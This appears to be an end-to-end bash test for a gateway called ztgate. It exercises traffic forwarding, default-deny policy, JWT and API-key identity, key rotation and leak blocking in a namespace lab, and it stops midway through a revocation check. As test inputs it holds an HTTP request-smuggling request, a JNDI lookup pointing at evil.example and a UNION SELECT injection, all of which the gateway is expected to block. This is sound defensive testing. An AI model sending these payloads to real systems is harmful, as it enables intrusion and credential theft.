#!/usr/bin/env bash
# End-to-end test: real curl, wrk and nginx talking through ztgate.
#
#   lab_test.sh ZTGATE_BINARY SOURCE_ROOT
#
# Builds the lab of scripts/lab.sh (namespaces ztg-client, ztg-dut,
# ztg-server; ztgate bridges ztg-c <-> ztg-s on net_af_packet), sends
# traffic from the client to nginx, stops ztgate and checks its counters.
# Then the policy: default deny, identity (the lab IdP's JWKS fetched by
# ztgate over TLS from nginx on the management link, a token per algorithm
# minted by jose, the denials with their reasons, an API key, revocation,
# key_fetch's blocked ranges), live apply and rollback, a restart.
# Replaces any lab already running (the namespace names are fixed).
#
# Exit 0 pass, 1 fail, 77 skip (meson's code): skips only without root or
# when network namespaces cannot be created. Each check prints "ok N - ..."
# as it passes, so the first failing one is obvious.
#
# Environment: ZTG_LAB_RUN (run directory, see scripts/lab.sh),
# ZTG_E2E_DRIVER (af_packet, default, or af_xdp). node and npm must be there
# (scripts/setup.sh installs them); lab.sh installs jose (npm) into ZTGATE's
# build directory, once.
set -euo pipefail

if (($# != 2)); then
	echo "usage: $0 ZTGATE_BINARY SOURCE_ROOT" >&2
	exit 2
fi
ZTGATE=$(realpath -- "$1")
SRC=$(realpath -- "$2")
LAB=$SRC/scripts/lab.sh
LAB_PROG=lab_test
# shellcheck source=scripts/lab/lib.sh
source "$SRC/scripts/lab/lib.sh"

DRIVER=${ZTG_E2E_DRIVER:-af_packet}
export ZTG_BIN=$ZTGATE
# meson builds ztgatectl beside ztgate: control/ next to dataplane/.
export ZTG_CTL=${ZTG_CTL:-$(dirname "$ZTGATE")/../control/ztgatectl}
# lab.sh keeps jose in the build directory: the one ztgate comes from.
export ZTG_BUILD=${ZTG_BUILD:-$(realpath -- "$(dirname "$ZTGATE")/..")}
export ZTG_LAB_RUN=${ZTG_LAB_RUN:-/run/ztg-lab}
RUN=$ZTG_LAB_RUN
ACCESS_LOG=$RUN/nginx/access.log
STATS=$RUN/stats.json

# Drop reasons this scenario may legitimately show. None: every packet of
# well-behaved TCP, ICMP, ARP and IPv6 neighbour discovery must pass. Add a
# reason here only together with the traffic that earns it.
EXPECTED_DROPS=()

UA=ztg-e2e # user agent prefix: lets the access-log checks count our requests

# --- skip / fail ------------------------------------------------------------------

skip() {
	echo "SKIP: $*"
	exit 77
}
((EUID == 0)) || skip "needs root to create network namespaces and veths (sudo meson test -C BUILD --suite e2e)"
probe=ztg-probe-$$
if ! err=$(ip netns add "$probe" 2>&1); then
	skip "cannot create a network namespace here: $err"
fi
ip netns del "$probe"

need_tools curl wrk jq nginx ethtool ping ss sha256sum openssl
[[ -x $ZTGATE ]] || die "no executable ztgate at $ZTGATE"
[[ -x $LAB ]] || die "no executable $LAB"

checks=0
pass() {
	checks=$((checks + 1))
	echo "ok $checks - $*"
}
fail() {
	echo "FAIL: $*" >&2
	exit 1
}

cleanup() {
	local rc=$?
	trap - EXIT
	if ((rc != 0)); then
		echo "--- diagnostics (test failed, exit $rc) ---" >&2
		log_tail "$RUN/ztgate.log" 40 >&2 || true
		log_tail "$RUN/nginx/error.log" 10 >&2 || true
		ZTG_LAB_KEEP=1 "$LAB" down >&2 || true
		echo "run directory kept for inspection: $RUN" >&2
	else
		"$LAB" down >/dev/null || echo "warning: lab teardown failed" >&2
	fi
	exit "$rc"
}
trap cleanup EXIT

client() { ip netns exec "$NS_CLIENT" "$@"; }

# http METHOD URL [BODY] -> sets CODE and BODY (response body)
http() {
	local method=$1 url=$2 data=${3:-} tmp rc=0
	tmp=$(mktemp)
	local -a args=(-sS --max-time 10 -g -X "$method" -A "$UA/curl" -o "$tmp" -w '%{http_code}')
	[[ -n $data ]] && args+=(-H 'Content-Type: application/json' --data-binary "$data")
	CODE=$(client curl "${args[@]}" "$url") || rc=$?
	BODY=$(cat "$tmp")
	rm -f -- "$tmp"
	((rc == 0)) || fail "curl $method $url: curl exit $rc (no answer through ztgate)"
}

# expect_json JQ_FILTER WHAT: the last BODY must satisfy the filter.
expect_json() {
	jq -e "$1" <<<"$BODY" >/dev/null 2>&1 || fail "$2: unexpected body: $BODY"
}

# --- the lab --------------------------------------------------------------------------

echo "# ztgate $ZTGATE, driver $DRIVER, run directory $RUN"
"$LAB" up || fail "scripts/lab.sh up"
pass "lab up: namespaces, veths, nginx on $SERVER_IP4:80"
"$LAB" start-ztgate --driver "$DRIVER" || fail "scripts/lab.sh start-ztgate"
pass "ztgate started in $NS_DUT and reported its ports ready"

# --- single requests --------------------------------------------------------------------

http GET "$SERVER_URL/healthz"
[[ $CODE == 200 ]] || fail "GET /healthz: HTTP $CODE, expected 200"
expect_json '.status == "ok"' "GET /healthz"
pass "GET /healthz through ztgate: 200 $BODY"

http GET "$SERVER_URL/api/v1/orders/42"
[[ $CODE == 200 ]] || fail "GET /api/v1/orders/42: HTTP $CODE, expected 200"
expect_json '.order_id == 42 and .status == "shipped"' "GET /api/v1/orders/42"
pass "GET /api/v1/orders/42: 200 with the order's JSON"

post='{"sku":"ZTG-1","qty":2,"customer":"e2e"}'
http POST "$SERVER_URL/api/v1/orders" "$post"
[[ $CODE == 201 ]] || fail "POST /api/v1/orders: HTTP $CODE, expected 201"
expect_json ".status == \"created\" and .received_bytes == ${#post}" "POST /api/v1/orders"
pass "POST /api/v1/orders: 201, server received all ${#post} body bytes"

http GET "$SERVER_URL6/api/v1/orders/6"
[[ $CODE == 200 ]] || fail "GET over IPv6: HTTP $CODE, expected 200"
expect_json '.order_id == 6' "GET over IPv6"
pass "IPv6: GET http://[$SERVER_IP6]/api/v1/orders/6: 200"

# --- keep-alive: several requests on one connection -----------------------------------------

paths=(/healthz /api/v1/orders/1 /api/v1/users/alice /api/v1/orders/2 /healthz)
args=(-sS --max-time 10 -A "$UA/keepalive" -w '%{http_code} %{num_connects}\n')
for p in "${paths[@]}"; do
	args+=(-o /dev/null "$SERVER_URL$p")
done
ka=$(client curl "${args[@]}") || fail "keep-alive curl failed: $ka"
codes=$(awk '{print $1}' <<<"$ka" | sort -u | tr '\n' ' ')
connects=$(awk '{s += $2} END {print s + 0}' <<<"$ka")
[[ $(wc -l <<<"$ka") -eq ${#paths[@]} && $codes == "200 " ]] ||
	fail "keep-alive: expected ${#paths[@]} x 200, got: $(tr '\n' ';' <<<"$ka")"
((connects == 1)) || fail "keep-alive: curl opened $connects connections for ${#paths[@]} requests, expected 1"
pass "keep-alive: ${#paths[@]} requests, all 200, over 1 TCP connection"

# --- a bulk transfer, byte for byte ------------------------------------------------------

want=$(awk '{print $1}' "$RUN/html/blob.sha256")
got=$(client curl -sS --max-time 20 -A "$UA/bulk" "$SERVER_URL/blob.bin" | sha256sum | awk '{print $1}')
[[ $got == "$want" ]] || fail "1 MiB download: sha256 $got, server's file has $want"
pass "1 MiB download (about 730 TCP segments): sha256 matches the server's file"

# --- ICMP ---------------------------------------------------------------------------------

out=$(client ping -n -c 3 -i 0.2 -W 2 "$SERVER_IP4" 2>&1) || fail "ping $SERVER_IP4 through ztgate: $out"
pass "ping: $(grep -o '[0-9]* received, [0-9.]*% packet loss' <<<"$out")"

# 4000 bytes of echo data leave the client in three fragments (1500-byte MTU): ztgate holds
# them, reassembles, inspects and forwards them in the same three pieces; the same for the reply.
# Not IPv4 on net_af_packet: DPDK 22.11's PMD joins a PACKET_FANOUT group with the defrag flag,
# so the kernel reassembles IPv4 before ztgate sees it and cuts the datagram to the ring frame.
frag_addrs=("$SERVER_IP6")
[[ $DRIVER == af_packet ]] || frag_addrs+=("$SERVER_IP4")
for addr in "${frag_addrs[@]}"; do
	out=$(client ping -n -c 3 -i 0.2 -W 2 -s 4000 "$addr" 2>&1) ||
		fail "ping -s 4000 $addr (fragmented) through ztgate: $out"
	pass "fragmented ping to $addr: $(grep -o '[0-9]* received, [0-9.]*% packet loss' <<<"$out")"
done

# --- load ---------------------------------------------------------------------------------

wrk_out=$(mktemp)
if ! client wrk -t1 -c8 -d3s -H "User-Agent: $UA/wrk" "$SERVER_URL/api/v1/orders/1" >"$wrk_out" 2>&1; then
	cat "$wrk_out" >&2
	fail "wrk failed"
fi
sed 's/^/  # /' "$wrk_out"
parse_wrk "$wrk_out" || fail "could not read wrk's output"
rm -f -- "$wrk_out"
((WRK_REQUESTS > 0)) || fail "wrk completed no request"
((WRK_SOCKET_ERRORS == 0)) || fail "wrk: $WRK_SOCKET_ERRORS socket errors (connect/read/write/timeout)"
((WRK_NON2XX == 0)) || fail "wrk: $WRK_NON2XX responses were not 2xx/3xx"
pass "wrk 3 s, 8 connections: $WRK_REQUESTS requests ($WRK_RPS/s), 0 socket errors, 0 non-2xx"

# --- what the server saw ------------------------------------------------------------------

[[ -s $ACCESS_LOG ]] || fail "nginx access log $ACCESS_LOG is empty"
log_count() { # log_count JQ_CONDITION
	jq -s "map(select($1)) | length" "$ACCESS_LOG"
}
n=$(log_count ".ua == \"$UA/curl\" and .status < 300")
((n == 4)) || fail "access log: $n successful requests from $UA/curl, expected 4"
n=$(log_count ".ua == \"$UA/curl\" and .client == \"$CLIENT_IP6\"")
((n == 1)) || fail "access log: $n requests from $CLIENT_IP6, expected 1"
n=$(log_count ".ua == \"$UA/curl\" and .client == \"$CLIENT_IP4\"")
((n == 3)) || fail "access log: $n curl requests from $CLIENT_IP4, expected 3"
pass "access log: the 4 single requests, from $CLIENT_IP4 and $CLIENT_IP6"

ka_conns=$(jq -rs "map(select(.ua == \"$UA/keepalive\")) | [length, (map(.conn) | unique | length), (map(.conn_reqs) | max)] | @tsv" "$ACCESS_LOG")
read -r ka_n ka_c ka_max <<<"$ka_conns"
((ka_n == ${#paths[@]} && ka_c == 1 && ka_max == ${#paths[@]})) ||
	fail "access log: keep-alive requests=$ka_n connections=$ka_c max requests/connection=$ka_max, expected ${#paths[@]}/1/${#paths[@]}"
pass "access log: the keep-alive requests arrived on one server-side connection"

n=$(log_count ".ua == \"$UA/wrk\"")
bad=$(log_count ".ua == \"$UA/wrk\" and .status != 200")
((n >= WRK_REQUESTS)) || fail "access log: $n wrk requests, wrk completed $WRK_REQUESTS"
((bad == 0)) || fail "access log: $bad wrk requests answered with a status other than 200"
pass "access log: $n wrk requests (wrk counted $WRK_REQUESTS complete), all 200"

# --- stop ztgate and read its counters --------------------------------------------------------

"$LAB" stop-ztgate || fail "ztgate did not stop cleanly on SIGINT"
[[ -s $STATS ]] || fail "ztgate wrote no $STATS"
jq -e . "$STATS" >/dev/null || fail "$STATS is not valid JSON"
pass "ztgate stopped on SIGINT with status 0 and wrote $STATS"

for port in 0 1; do
	read -r ip op ie oe <<<"$(jq -r ".ports[] | select(.port == $port) | [.ipackets, .opackets, .ierrors, .oerrors] | @tsv" "$STATS")"
	[[ -n ${ip:-} ]] || fail "stats: no port $port in .ports"
	((ip > 0 && op > 0)) || fail "stats: port $port rx $ip / tx $op packets, expected both > 0"
	((ie == 0 && oe == 0)) || fail "stats: port $port rx errors $ie, tx errors $oe"
	pass "port $port: rx $ip, tx $op packets, no errors"
done
missed=$(jq '[.ports[].imissed] | add' "$STATS")
((missed == 0)) || warn "ports missed $missed packets on receive (ring full: the host was too busy)"

read -r rx tx dropped flows v6 icmp tcp <<<"$(jq -r '.totals | [.rx_packets, .tx_packets, .dropped, .flows_created, .ipv6, .icmp, .tcp] | @tsv' "$STATS")"
((flows > 0)) || fail "stats: flows_created = $flows"
pass "flows created: $flows"
((tcp > 0 && v6 > 0 && icmp > 0)) || fail "stats: tcp $tcp, ipv6 $v6, icmp $icmp packets; expected each > 0"
pass "decoded: tcp $tcp, ipv6 $v6, icmp $icmp packets"
reassembled=$(jq '.totals.datagrams_reassembled' "$STATS")
# 3 echo requests and 3 replies per address pinged.
((reassembled >= 6 * ${#frag_addrs[@]})) ||
	fail "stats: datagrams_reassembled = $reassembled, expected at least $((6 * ${#frag_addrs[@]}))"
pass "datagrams reassembled from fragments: $reassembled"
injected=$(jq '.totals.injected_packets' "$STATS")
((rx + injected == tx + dropped)) ||
	fail "stats: rx $rx + injected $injected != tx $tx + dropped $dropped: packets unaccounted for"
port_rx=$(jq '[.ports[].ipackets] | add' "$STATS")
port_tx=$(jq '[.ports[].opackets] | add' "$STATS")
((port_rx == rx && port_tx == tx)) ||
	fail "stats: ports received $port_rx / sent $port_tx, workers counted rx $rx / tx $tx"
pass "every packet accounted for: rx $rx = tx $tx + dropped $dropped, matching the port counters"

unexpected=()
while IFS='=' read -r reason count; do
	[[ -n $reason ]] || continue
	ok=0
	for e in "${EXPECTED_DROPS[@]}"; do
		[[ $reason == "$e" ]] && ok=1
	done
	((ok)) || unexpected+=("$reason=$count")
done <<<"$(ztgate_nonzero_drops "$STATS")"
((${#unexpected[@]} == 0)) || fail "stats: unexpected drops: ${unexpected[*]}"
pass "no unexpected drops (expected: ${EXPECTED_DROPS[*]:-none}; dropped total $dropped)"

# --- verdicts on the wire: deny and reset --------------------------------------------------------

# A smuggling request (Content-Length with Transfer-Encoding): never legitimate.
smuggle=(-sS --max-time 10 -A "$UA/smuggle" -X POST -H 'Transfer-Encoding: chunked' -H 'Content-Length: 5'
	--data-binary $'0\r\n\r\n' "http://$SERVER_IP4/api/v1/orders")

"$LAB" start-ztgate --driver "$DRIVER" || fail "scripts/lab.sh start-ztgate (deny)"
tmp=$(mktemp)
CODE=$(client curl "${smuggle[@]}" -o "$tmp" -w '%{http_code}') || fail "curl (smuggling, deny): exit $?"
BODY=$(cat "$tmp")
rm -f -- "$tmp"
[[ $CODE == 403 ]] || fail "smuggling request: HTTP $CODE, expected ztgate's 403"
expect_json '.error == "forbidden" and .reason == "http_content_length_and_transfer_encoding" and
	(.request_id | startswith("ztg-"))' "the 403"
request_id=$(jq -r .request_id <<<"$BODY")
pass "smuggling request: curl got ztgate's 403 naming request $request_id"
"$LAB" stop-ztgate || fail "ztgate did not stop cleanly after the deny"
n=$(log_count ".ua == \"$UA/smuggle\"")
((n == 0)) || fail "access log: nginx logged $n smuggling request(s)"
grep -q "\"request_id\":\"$request_id\".*\"action\":\"deny\"" "$RUN/ztgate.log" ||
	fail "no deny event for $request_id in $RUN/ztgate.log"
pass "the server never logged it; the deny event names $request_id"

"$LAB" start-ztgate --driver "$DRIVER" -- --http-violation reset || fail "scripts/lab.sh start-ztgate (reset)"
started=$(date +%s%N)
rc=0
client curl "${smuggle[@]}" -o /dev/null 2>/dev/null || rc=$?
elapsed_ms=$((($(date +%s%N) - started) / 1000000))
# curl: 56 is "failure receiving network data" (connection reset); 28 would be a timeout.
((rc == 56)) || fail "smuggling request with --http-violation reset: curl exit $rc, expected 56 (reset)"
((elapsed_ms < 3000)) || fail "the reset took $elapsed_ms ms to reach curl"
pass "with --http-violation reset, curl reports a reset (exit 56) after $elapsed_ms ms, not a timeout"
"$LAB" stop-ztgate || fail "ztgate did not stop cleanly after the reset"
n=$(log_count ".ua == \"$UA/smuggle\"")
((n == 0)) || fail "access log: nginx logged $n smuggling request(s) after the reset"
pass "the server never logged the reset request either"

# --- the policy: default deny, and a stricter one applied live -----------------------------------

# get URL [CURL-ARGS...]: sets CODE and BODY
get() {
	local url=$1 tmp
	shift
	tmp=$(mktemp)
	CODE=$(client curl -sS --max-time 10 -A "$UA/policy" -o "$tmp" -w '%{http_code}' "$@" "$url") ||
		fail "curl $url: exit $?"
	BODY=$(cat "$tmp")
	rm -f -- "$tmp"
}

"$LAB" start-ztgate --driver "$DRIVER" || fail "scripts/lab.sh start-ztgate (policy)"
status=$("$LAB" ctl --json status) || fail "ztgatectl status: exit $?"
jq -e '.policy.name == "lab" and .policy.mode == "enforce"' <<<"$status" >/dev/null ||
	fail "ztgatectl status: not the lab policy: $status"
pass "ztgatectl status over the control socket: policy lab in force"

get "$SERVER_URL/api/v1/internal/metrics"
[[ $CODE == 403 ]] || fail "GET /api/v1/internal/metrics: HTTP $CODE, expected 403 (no route)"
expect_json '.reason == "no_route"' "the 403 for a path without a route"
get "$SERVER_URL/api/v1/orders/1" -X DELETE
[[ $CODE == 403 ]] || fail "DELETE /api/v1/orders/1: HTTP $CODE, expected 403"
expect_json '.reason == "method_not_allowed"' "the 403 for a method the route does not allow"
get "$SERVER_URL/api/v1/users/alice"
[[ $CODE == 200 ]] || fail "GET /api/v1/users/alice under the lab policy: HTTP $CODE"
pass "default deny: no route and a wrong method get 403 (no_route, method_not_allowed); get-user passes"

# Shadow endpoints: calls no route describes, grouped by path shape.
for id in 17 18 19; do
	get "$SERVER_URL/api/v1/invoices/$id"
	[[ $CODE == 403 ]] || fail "GET /api/v1/invoices/$id: HTTP $CODE, expected 403 (no route)"
done
sleep 0.3
inventory=$("$LAB" ctl --json inventory) || fail "ztgatectl inventory: exit $?"
jq -e '.endpoints | any(.method == "GET" and .path_shape == "/api/v1/invoices/{id}" and .requests == 3 and
	.service == "lab-api" and .host == "'"$SERVER_IP4"'")' <<<"$inventory" >/dev/null ||
	fail "ztgatectl inventory: no GET /api/v1/invoices/{id} x3: $inventory"
pass "ztgatectl inventory: 3 calls to /api/v1/invoices/17..19 recorded as one shadow endpoint {id}"

"$LAB" ctl --json events | jq -e '.events | any(.reason == "no_route" and .path == "/api/v1/invoices/19" and
	.segment == "clients" and .service == "lab-api")' >/dev/null || fail "ztgatectl events: no event for invoices/19"
followed=$(mktemp)
timeout 3 "$LAB" ctl events --follow >"$followed" 2>&1 &
follower=$!
sleep 1
get "$SERVER_URL/api/v1/invoices/20"
wait "$follower" || true
grep -q '"path":"/api/v1/invoices/20"' "$followed" || fail "ztgatectl events --follow did not show the new event: $(cat "$followed")"
grep -q '"path":"/api/v1/invoices/19"' "$followed" || fail "ztgatectl events --follow did not start with the kept events"
rm -f -- "$followed"
pass "ztgatectl events: the kept decisions, and --follow prints a new one as it happens"

flows=$("$LAB" ctl --json flows --by requests --top 5) || fail "ztgatectl flows: exit $?"
jq -e '(.flows | length) >= 1 and (.flows | length) <= 5 and
	(.flows | all(.server == "'"$SERVER_IP4"'" or .server == "'"$SERVER_IP6"'" or .proto != 6)) and
	(.flows[0].requests >= 1) and ([.flows[].requests] == ([.flows[].requests] | sort | reverse))' \
	<<<"$flows" >/dev/null || fail "ztgatectl flows --by requests --top 5: $flows"
pass "ztgatectl flows: the busiest flows by requests, at most --top, highest first"

explained=$("$LAB" ctl --json explain --src "$CLIENT_IP4" --dst "$SERVER_IP4" DELETE /api/v1/orders/7) ||
	fail "ztgatectl explain: exit $?"
jq -e '.segment == "clients" and .service == "lab-api" and .route == "get-order" and .captures.id == "7" and
	.action == "deny" and .reason == "method_not_allowed"' <<<"$explained" >/dev/null ||
	fail "ztgatectl explain DELETE /api/v1/orders/7: $explained"
pass "ztgatectl explain names segment, service, route get-order with id=7, and why DELETE is denied"

raw=$RUN/smuggle.http
printf 'POST /api/v1/orders HTTP/1.1\r\nHost: %s\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' \
	"$SERVER_IP4" >"$raw"
"$LAB" ctl explain --src "$CLIENT_IP4" --dst "$SERVER_IP4" --request "$raw" |
	grep -q 'refuses this request before any policy: http_content_length_and_transfer_encoding' ||
	fail "ztgatectl explain --request of a smuggling request did not say the HTTP layer refuses it"
pass "ztgatectl explain --request parses a raw request as the workers do (a smuggling one is refused)"

# --- identity: JWKS over TLS, a token per algorithm, denials, an API key, revocation ---------

IDP=$RUN/idp
TOKENS_JSON=$IDP/tokens.json   # read by token_field (lib.sh)
[[ -s $TOKENS_JSON ]] || fail "lab.sh up wrote no $TOKENS_JSON"
# token NAME: the token's text, exactly (no newline), from the documented `lab.sh token NAME`.
token() { "$LAB" token "$1"; }

# event_for REQUEST_ID: its event from ztgatectl events, waiting for the control process to drain it.
event_for() {
	local i ev
	for ((i = 0; i < 30; i++)); do
		ev=$("$LAB" ctl --json events | jq -c --arg id "$1" '[.events[] | select(.request_id == $id)] | last // empty')
		[[ -n $ev ]] && { echo "$ev"; return 0; }
		sleep 0.1
	done
	return 1
}

# expect_denial WHAT STATUS REASON [DETAIL]: the last answer (get) is ztgate's denial, and its event says why.
expect_denial() {
	local what=$1 status=$2 reason=$3 detail=${4:-} id ev
	[[ $CODE == "$status" ]] || fail "$what: HTTP $CODE, expected $status ($reason): $BODY"
	jq -e --arg r "$reason" '.reason == $r and (.request_id | startswith("ztg-"))' <<<"$BODY" >/dev/null 2>&1 ||
		fail "$what: expected reason $reason: $BODY"
	id=$(jq -r .request_id <<<"$BODY")
	ev=$(event_for "$id") || fail "$what: no event for $id in ztgatectl events"
	jq -e --arg r "$reason" --arg d "$detail" '.action == "deny" and .reason == $r and ($d == "" or .detail == $d)' \
		<<<"$ev" >/dev/null || fail "$what: event for $id: $ev"
}

jwks_log=$RUN/nginx/jwks-access.log
[[ -s $jwks_log ]] || fail "nginx's JWKS server logged no request: ztgate did not fetch $JWKS_URL"
jq -se --arg c "$MGMT_DUT_IP4" --arg s "$MGMT_SERVER_IP4" --argjson p "$JWKS_PORT" 'any(.[]; .method == "GET" and
	.uri == "/jwks.json" and .status == 200 and .client == $c and .server == $s and .port == $p and
	(.tls | startswith("TLSv1.")))' "$jwks_log" >/dev/null || fail "no TLS GET /jwks.json from $MGMT_DUT_IP4 in $jwks_log: $(cat "$jwks_log")"
keys=$("$LAB" ctl --json keys) || fail "ztgatectl keys: exit $?"
want_kids=$(jq -c '[.keys[].kid] | sort' "$RUN/jwks/jwks.json")
jq -e --argjson k "$want_kids" --arg u "$JWKS_URL" '.issuers | any(.name == "lab-idp" and .source == "jwks_url" and
	.url == $u and (.kids | sort) == $k and .fetches >= 1 and .failures == 0) and
	any(.name == "lab-hmac" and .source == "jwks_file" and (.kids | sort) == ["lab-hs256", "lab-hs384", "lab-hs512"])' \
	<<<"$keys" >/dev/null || fail "ztgatectl keys: not the lab IdP's kids $want_kids from $JWKS_URL: $keys"
pass "JWKS fetched over $(jq -rs 'last | .tls' "$jwks_log") from nginx $MGMT_SERVER_IP4:$JWKS_PORT by $MGMT_DUT_IP4; ztgatectl keys lists its $(jq length <<<"$want_kids") kids and lab-hmac's 3"
jq -e '[.[] | .. | objects | select(has("k") or has("d"))] | length == 0' "$RUN/jwks/jwks.json" >/dev/null ||
	fail "the served JWKS holds secret or private key material"

path=/api/v1/tenants/acme/orders/7
for alg in "${LAB_ALGS[@]}"; do
	get "$SERVER_URL$path" -A "$UA/identity" -H "Authorization: Bearer $(token "valid-${alg,,}")"
	[[ $CODE == 200 ]] || fail "GET $path with the $alg token: HTTP $CODE, expected 200: $BODY"
	expect_json '.tenant == "acme" and .order_id == 7' "GET $path with the $alg token"
done
n=$(log_count ".ua == \"$UA/identity\" and .uri == \"$path\" and .status == 200")
((n == ${#LAB_ALGS[@]})) || fail "access log: $n of the ${#LAB_ALGS[@]} token requests reached nginx"
pass "a jose token per algorithm (${LAB_ALGS[*]}): ${#LAB_ALGS[@]} x 200 through ztgate"

before=$(wc -l <"$ACCESS_LOG")
denied=()
get "$SERVER_URL/api/v1/me"
expect_denial "no credentials" 401 credentials_missing
while IFS=$'\t' read -r name status reason; do
	detail=
	[[ $reason == object_mismatch ]] && detail="{tenant}"
	[[ $reason == scope_missing ]] && detail="orders:read"
	get "$SERVER_URL$(token_field "$name" path)" -H "Authorization: Bearer $(token "$name")"
	expect_denial "token $name" "$status" "$reason" "$detail"
	denied+=("$name=$reason")
done < <(jq -r '.[] | select(.expect == "deny") | [.name, .status, .reason] | @tsv' "$TOKENS_JSON")
get "$SERVER_URL/api/v1/me" -H "X-API-Key: not-the-lab-key"
expect_denial "an unknown API key" 401 api_key_unknown
after=$(wc -l <"$ACCESS_LOG")
((after == before)) || fail "access log: nginx logged $((after - before)) request(s) ztgate should have refused"
pass "refused with their reasons in the 403/401 and the event: credentials_missing ${denied[*]} api_key_unknown; none reached nginx"

# Key rotation at the IdP while ztgate runs: a token of the new key is unknown_kid until nginx
# serves the rotated JWKS; the next such token makes ztgate fetch again at once (jwks_refetch_min
# 2 s, not the 300 s interval), after which it verifies, and the old keys' tokens still do.
get "$SERVER_URL$path" -H "Authorization: Bearer $(token rotated)"
expect_denial "a token of the key the IdP has not published yet" 401 unknown_kid
install -m 644 "$IDP/jwks-rotated.json" "$RUN/jwks/jwks.json"
rotated=0
for _ in $(seq 1 40); do
	get "$SERVER_URL$path" -H "Authorization: Bearer $(token rotated)"
	if [[ $CODE == 200 ]]; then
		rotated=1
		break
	fi
	sleep 0.25
done
((rotated)) || fail "the rotated key's token still refused 10 s after the IdP published it: HTTP $CODE: $BODY"
keys=$("$LAB" ctl --json keys)
jq -e '.issuers[] | select(.name == "lab-idp") | (.kids | index("lab-es256-next")) != null and .early_refetches >= 1' \
	<<<"$keys" >/dev/null || fail "ztgatectl keys after the rotation: no lab-es256-next or no early refetch: $keys"
get "$SERVER_URL$path" -H "Authorization: Bearer $(token valid-es256)"
[[ $CODE == 200 ]] || fail "an old key's token after the rotation: HTTP $CODE: $BODY"
pass "IdP key rotation: the new kid's token is unknown_kid, then verified after an early refetch; old keys still verify"

# Signatures: the shipped ruleset over lab-api's requests. A JNDI lookup in a query argument is a
# block rule; a UNION SELECT scores 5, the service's threshold; neither reaches nginx.
before=$(wc -l <"$ACCESS_LOG")
# shellcheck disable=SC2016 # a JNDI lookup, literally
get "$SERVER_URL/api/v1/orders/7" --get --data-urlencode 'q=${jndi:ldap://evil.example/a}'
expect_denial "a JNDI lookup in a query argument" 403 signature
jq -e '.rules | index(150001) != null' <<<"$(event_for "$(jq -r .request_id <<<"$BODY")")" >/dev/null ||
	fail "the JNDI event does not list rule 150001"
get "$SERVER_URL/api/v1/orders/7" --get --data-urlencode "q=1' UNION SELECT username, password FROM users--"
expect_denial "a UNION SELECT in a query argument" 403 anomaly_score
ev=$(event_for "$(jq -r .request_id <<<"$BODY")")
jq -e '.score >= 5 and (.rules | index(100001) != null)' <<<"$ev" >/dev/null ||
	fail "the UNION SELECT event: no score >= 5 with rule 100001: $ev"
get "$SERVER_URL/api/v1/orders/7" --get --data-urlencode "q=O'Brien's union of selected items" \
	--data-urlencode 'email=a.b@example.com'
[[ $CODE == 200 ]] || fail "a benign query with quotes and SQL-ish words: HTTP $CODE: $BODY"
(($(wc -l <"$ACCESS_LOG") == before + 1)) || fail "access log: a request ztgate blocked by signature reached nginx"
pass "signatures: a JNDI lookup (rule 150001) and a UNION SELECT (score $(jq .score <<<"$ev")) get 403s; a benign query passes"

# Response leaks: nginx's order export holds a Luhn-valid test card number after more than 64 KiB
# of orders. Route card-export blocks on it (leaks-cards in block_sets) once the response has
# started: ztgate drops the segment completing the number and resets both sides, so curl fails
# with the start of the file and none of the number, and the event names rule 200101.
export_file=$RUN/html/orders-export.json
export_size=$(stat -c %s "$export_file")
card_at=$(grep -obF "$LAB_TEST_CARD" "$export_file" | cut -d: -f1)
((card_at > 65536)) || fail "the order export holds the card number at byte ${card_at:-none}, expected past 64 KiB"
tmp=$(mktemp)
rc=0
client curl -sS --max-time 10 -A "$UA/leak" -o "$tmp" "$SERVER_URL$LAB_EXPORT_PATH" 2>/dev/null || rc=$?
got=$(stat -c %s "$tmp")
leaked=0
grep -qF "$LAB_TEST_CARD" "$tmp" && leaked=1
rm -f -- "$tmp"
((rc != 0)) || fail "GET $LAB_EXPORT_PATH: curl got all $got bytes: ztgate let the card number out"
((rc != 28)) || fail "GET $LAB_EXPORT_PATH: curl timed out after $got bytes instead of being reset"
((leaked == 0)) || fail "GET $LAB_EXPORT_PATH: the card number reached the client (curl exit $rc, $got bytes)"
((got > 0 && got < export_size)) ||
	fail "GET $LAB_EXPORT_PATH: curl received $got of $export_size bytes, expected the start of the response"
ev=
for _ in $(seq 1 30); do
	ev=$("$LAB" ctl --json events | jq -c '[.events[] | select(.route == "card-export")] | last // empty')
	[[ -n $ev ]] && break
	sleep 0.1
done
jq -e '.action == "reset" and .reason == "response_signature" and (.rules | index(200101) != null)' \
	<<<"${ev:-null}" >/dev/null || fail "the order export's event: expected reset/response_signature with rule 200101: ${ev:-none}"
pass "a response leaking a card number after $card_at bytes is cut off (curl exit $rc, $got of $export_size bytes, no card number); event response_signature, rule 200101"

# explain --request judges a request's credentials too: who the token says, and why the route refuses.
raw=$RUN/explain-other-tenant.http
printf 'GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n' "$(token_field other-tenant path)" \
	"$SERVER_IP4" "$(token other-tenant)" >"$raw"
explained=$("$LAB" ctl --json explain --src "$CLIENT_IP4" --dst "$SERVER_IP4" --request "$raw") ||
	fail "ztgatectl explain --request with a token: exit $?"
jq -e '.action == "deny" and .reason == "object_mismatch" and .route == "tenant-order" and
	.credentials.verified and .credentials.subject == "alice" and .credentials.issuer == "lab-idp" and
	.credentials.detail == "{tenant}" and .identity.bind.tenant == "tenant"' <<<"$explained" >/dev/null ||
	fail "ztgatectl explain --request of another tenant's order: $explained"
pass "ztgatectl explain --request: the token's identity (lab-idp, alice) and why the route refuses it (object_mismatch {tenant})"

get "$SERVER_URL/api/v1/me" -H "X-API-Key: $LAB_API_KEY"
[[ $CODE == 200 ]] || fail "GET /api/v1/me with the lab's API key: HTTP $CODE: $BODY"
get "$SERVER_URL/api/v1/tenants/acme/orders/3" -H "X-API-Key: $LAB_API_KEY"
[[ $CODE == 200 ]] || fail "GET /api/v1/tenants/acme/orders/3 with the lab's API key: HTTP $CODE: $BODY"
get "$SERVER_URL/api/v1/tenants/globex/orders/3" -H "X-API-Key: $LAB_API_KEY"
expect_denial "the API key (tenant acme) on globex's order" 403 object_mismatch "{tenant}"
pass "API key (X-API-Key, SHA-256 in the policy): /api/v1/me and acme's order 200, globex's order object_mismatch"

jti=$(token_field revocable jti)
auth=(-H "Authorization: Bearer $(token revocable)")
get "$SERVER_URL$path" "${auth[@]}"
[[ $CODE == 200 ]] || fail "the revocable token before revocation: HTTP $CODE: $BODY"
